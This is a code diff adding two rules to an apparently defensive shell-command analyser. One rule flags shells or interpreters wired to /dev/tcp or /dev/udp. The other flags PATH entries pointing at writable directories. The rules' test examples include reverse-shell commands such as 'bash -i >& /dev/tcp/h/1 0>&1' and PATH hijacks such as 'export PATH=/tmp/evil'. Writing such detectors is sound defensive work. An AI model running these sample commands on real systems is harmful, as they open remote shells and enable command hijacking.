@@ -1,6 +1,6 @@
 /** What the shell itself is made to load or to run later, and programs read from where nobody has looked. */
 import { sourceOf } from '../analysis/programs.ts';
-import { isInput } from '../analysis/shells.ts';
+import { isInput, isInterpreter, isShell } from '../analysis/shells.ts';
 import { hole, type Analysis, type Simple } from '../analysis/types.ts';
 import { readsInput } from './dangerous-run.ts';
 import { argsOf, type Rule } from './rule.ts';
@@ -46,6 +46,18 @@ export const shellRules: readonly Rule[] = [
     test: writesToShell,
     yes: ['x | tee >(sh)', 'x > >(bash)'],
     no: ['x > >(tee log)', 'x | tee >(sh y.sh)'],
+  },
+  {
+    id: 'D16n', description: 'shell or program on a network connection', programs: ['*'],
+    test: ({ program, redirects }) => (isShell(program) || isInterpreter(program)) && redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text)),
+    yes: ['bash -i >& /dev/tcp/h/1 0>&1', 'sh </dev/tcp/h/80', 'bash < /dev/udp/h/53', 'python3 < /dev/tcp/h/80'],
+    no: ['cat </dev/tcp/time/13', 'echo x > /dev/tcp/h/80', 'sh x.sh < in'],
+  },
+  {
+    id: 'D27p', description: 'search path with a directory in which others may write', programs: ['*'],
+    test: ({ assignments, words, program }) => (words.length === 0 || /^(?:export|declare|typeset|local|readonly)$/.test(program ?? '')) && assignments.some(({ name, value }) => name === 'PATH' && value.split(':').some((entry) => /^(?:\.?\/?|\/(?:tmp|var\/tmp|dev\/shm)(?:\/.*)?)$/.test(entry))),
+    yes: ['export PATH=/tmp/evil; ls', 'PATH=/tmp/evil; ls', 'PATH=.:$PATH; ls', 'export PATH=$PATH:', 'declare -x PATH=/dev/shm/x:$PATH'],
+    no: ['export PATH="$HOME/.local/bin:$PATH"', 'PATH=$PATH:/opt/x/bin; ls', 'export PATH=./node_modules/.bin:$PATH', 'export MANPATH=/tmp'],
   },
   {
     id: 'D27n', description: 'other meaning of names, or of what is run at each prompt', programs: ['*'],
